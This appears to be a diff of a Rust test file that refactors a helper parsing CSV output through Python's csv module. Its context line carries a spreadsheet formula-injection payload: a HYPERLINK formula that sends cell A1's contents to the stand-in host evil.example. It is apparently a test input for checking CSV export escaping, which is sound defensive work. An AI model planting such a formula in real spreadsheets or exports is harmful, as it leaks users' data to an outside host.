@@ -13,20 +13,13 @@ const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
 
 /// The rows of a CSV text as Python's csv module reads them.
 fn csv_rows(text: &str) -> Vec<Vec<String>> {
-    let output = std::process::Command::new("python3")
-        .args([
+    let output = python(
+        &[
             "-c",
             "import csv, io, json, sys; print(json.dumps(list(csv.reader(io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='')))))",
-        ])
-        .stdin(std::process::Stdio::piped())
-        .stdout(std::process::Stdio::piped())
-        .spawn()
-        .and_then(|mut child| {
-            use std::io::Write;
-            child.stdin.take().unwrap().write_all(text.as_bytes())?;
-            child.wait_with_output()
-        })
-        .unwrap();
+        ],
+        text.as_bytes(),
+    );
     serde_json::from_slice(&output.stdout).unwrap()
 }
 
